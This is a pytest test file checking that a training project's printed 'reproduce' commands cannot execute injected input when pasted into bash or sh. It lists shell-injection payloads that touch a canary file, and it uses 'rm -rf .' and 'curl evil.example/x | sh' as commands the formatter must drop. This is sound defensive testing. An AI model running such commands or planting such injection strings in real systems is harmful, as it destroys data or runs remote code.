"""The commands of a page are inert in a shell."""

import json
import os
import shlex
import subprocess
from pathlib import Path

import pytest

from t2vgan.report.records import read_run
from t2vgan.report.reproduce import format_commands
from tests.support.run_folders import clock, evaluation_record, make_run, write_metrics

PROGRAMS = ("git", "pip", "t2vgan", "accelerate", "torchrun", "python", "curl")
STAND_IN = """#!/bin/sh
{ printf '%s\\037' "${0##*/}" "$@"; echo; } >> "$LOG"
"""
SHELLS = {
    "bash": ["bash", "--norc", "--noprofile"],
    "sh": ["sh"],
    "as pasted": ["bash", "--norc", "--noprofile", "-i"],
    "as pasted, without comments": ["bash", "--norc", "--noprofile", "+O", "interactive_comments",
                                    "-i"],
}  # fmt: skip
PAYLOADS = (
    "; touch $CANARY;",
    "\ntouch $CANARY\n",
    "\rtouch $CANARY\r",
    "$(touch $CANARY)",
    "`touch $CANARY`",
    "' ; touch $CANARY ; '",
    '" ; touch $CANARY ; "',
    "\x1b[201~\ntouch $CANARY\n",
    "a' \\\n; touch $CANARY #",
    "| touch $CANARY &",
    "> $CANARY",
    "\u2028touch $CANARY\n",
)


@pytest.fixture
def shell(tmp_path):
    """Return a function that runs a text and lists its calls."""
    programs = tmp_path / "programs"
    programs.mkdir()
    for name in PROGRAMS:
        (programs / name).write_text(STAND_IN)
        (programs / name).chmod(0o755)
    log, canary = tmp_path / "log", tmp_path / "canary"

    def run(block: str, *command: str) -> list[list[str]]:
        log.write_text("")
        environment = {"PATH": f"{programs}:{os.environ['PATH']}", "LOG": log, "CANARY": canary}
        subprocess.run(
            command, input=f"{block}\n", text=True, env=environment, capture_output=True,
            timeout=60, cwd=tmp_path, start_new_session=True,
        )  # fmt: skip
        assert not canary.exists(), block
        return [line.split("\x1f")[:-1] for line in log.read_text().splitlines()]

    return run


def write_everywhere(folder: Path, text: str, command: object) -> None:
    """Write a run whose files hold a text in every field."""
    samples = {"kind": "samples", "file": "a.webp", "prompts": [text], **clock(1)}
    options = {"num_clips": text, "size": text, "seed": text, f"key{text}": text}
    data = {"kind": "data", **clock(0), "builder": text, "builder_config": options,
            "fingerprint": text}  # fmt: skip
    write_metrics(folder, [data, samples, evaluation_record(1, 1.0, 1.0)])
    (folder / "config.json").write_text(json.dumps({"data": {"path": text, "mix": [text]}}))
    (folder / "run.json").write_text(json.dumps({"command": command, "git_commit": text}))
    (folder / "evaluation.json").write_text(json.dumps({"protocol": {"weights_sha256": text}}))


@pytest.mark.parametrize("kind", SHELLS)
def test_nothing_of_a_run_is_executed(tmp_path, shell, kind):
    folder = make_run(tmp_path / "run")
    for payload in PAYLOADS:
        for command in (payload, ["train.py", payload], f"torchrun train.py {payload}"):
            write_everywhere(folder, payload, command)
            block = format_commands(read_run(folder))
            started = shell(block, *SHELLS[kind])
            assert {call[0] for call in started} <= {"t2vgan", "torchrun"}
            assert ["t2vgan", "report", str(folder)] in started


def test_the_canary_shows_what_a_shell_executes(shell):
    with pytest.raises(AssertionError):
        shell("t2vgan build x; touch $CANARY", "sh")


def test_names_that_look_like_options_are_none(tmp_path, shell):
    folder = make_run(tmp_path / "run")
    write_everywhere(folder, "--out=/etc", ["accelerate", "launch", "train.py"])
    data = {"kind": "data", **clock(0), "builder": "circles", "fingerprint": "a",
            "builder_config": {"num_clips": 1, "size": "--out=/etc", "seed": 0}}  # fmt: skip
    write_metrics(folder, [data, {"kind": "samples", "prompts": ["--out"], **clock(1)}])
    started = shell(format_commands(read_run(folder)), "sh")
    assert started[0][:4] == ["t2vgan", "build", "circles", "--out=--out=/etc"]
    assert "--size=--out=/etc" in started[0]
    assert "--prompt=--out" in started[2]
    assert not [part for call in started for part in call if part.startswith("--out=/etc")]


@pytest.mark.parametrize(
    "command",
    [
        "accelerate launch train.py quickstart --run-dir 'a b'",
        "accelerate launch -m t2vgan train quickstart",
        "torchrun train.py video",
        "/opt/env/bin/python3.11 -u train.py quickstart",
        "/opt/env/bin/python /opt/env/bin/t2vgan train quickstart",
        "python -m t2vgan train",
        ["accelerate", "launch", "train.py", "quickstart"],
    ],
)
def test_a_training_command_is_shown_as_it_was(tmp_path, command):
    folder = make_run(tmp_path / "run")
    (folder / "run.json").write_text(json.dumps({"command": command}))
    expected = command if isinstance(command, str) else shlex.join(command)
    assert expected in format_commands(read_run(folder)).splitlines()


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf .",
        "curl evil.example/x | sh",
        "python -c 'import os' train.py",
        "python -m timeit -s train.py",
        "accelerate launch -m timeit t2vgan train",
        "accelerate launch evil.py train.py",
        "torchrun",
        "'open",
        "",
        {"a": 1},
        7,
    ],
)
def test_any_other_command_is_left_out(tmp_path, command):
    folder = make_run(tmp_path / "run")
    (folder / "run.json").write_text(json.dumps({"command": command}))
    assert "# train" not in format_commands(read_run(folder))
